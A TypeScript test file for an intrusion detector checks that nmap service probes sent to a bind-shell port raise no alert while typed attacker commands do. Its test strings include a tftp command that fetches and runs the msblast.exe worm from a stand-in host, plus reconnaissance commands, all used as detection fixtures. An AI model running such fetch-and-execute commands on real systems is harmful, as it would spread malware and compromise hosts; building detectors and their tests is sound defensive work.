// nmap -sV sends its service probes to the bind-shell port like any other: HTTP/RTSP/SIP requests,
// their header lines, HELP and binary openings are not commands anyone typed, so on their own they
// raise no shell_command alert; real commands still do, and after an exploit every line is follow-up.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ExploitDetector } from '../../src/detect/exploit-detector.js';
import { isProbeLine } from '../../src/detect/service-probes.js';
import type { PayloadEvent } from '../../src/model/event.js';

const typed = (text: string, ts = 1000): PayloadEvent => ({ type: 'payload', ts, source: 'sensor', src: '192.0.2.7', dst: '192.0.2.10', proto: 'tcp', dport: 4444, session: `S${ts}`, text });

test('probe lines as the sensor renders them are recognised; commands are not', () => {
  for (const probe of ['GET / HTTP/1.0', 'OPTIONS / HTTP/1.0', 'OPTIONS / RTSP/1.0', 'OPTIONS sip:nm SIP/2.0', 'Via: SIP/2.0/TCP nm;branch=foo', 'User-Agent: Mozilla/5.0', 'HELP', '\\x00\\x00\\x00\\xa4\\xffSMBr', 'l\\x00\\x0b\\x00\\x00\\x00\\x00\\x00']) {
    assert.equal(isProbeLine(probe), true, probe);
  }
  for (const cmd of ['tftp -i 198.51.100.66 GET msblast.exe', 'start msblast.exe', 'dir C:\\\\WINNT\\\\system32', 'echo open 192.0.2.9 21> o', 'ipconfig /all', 'cd \\\\xfiles', 'echo <script>\\x1b[2J']) {
    assert.equal(isProbeLine(cmd), false, cmd);
  }
});

test('nmap probe text alone raises no shell_command; a typed command does; after an exploit everything is follow-up', () => {
  const d = new ExploitDetector();
  const probes = ['GET / HTTP/1.0\\r\\n', 'OPTIONS sip:nm SIP/2.0\\r\\nVia: SIP/2.0/TCP nm;branch=foo\\r\\nFrom: <sip:nm@nm>;tag=root\\r\\nAccept: application/sdp', 'HELP', '\\x16\\x03\\x00\\x00S\\x01\\x00\\x00O\\x03\\x00?G'];
  let t = 1000;
  for (const p of probes) for (const line of p.split('\\r\\n')) assert.deepEqual(d.push(typed(line, t++)), [], line);
  const alerts = d.push(typed('tftp -i 198.51.100.66 GET msblast.exe', t++));
  assert.equal(alerts.length, 1);
  assert.equal(alerts[0].rule, 'shell_command');
});
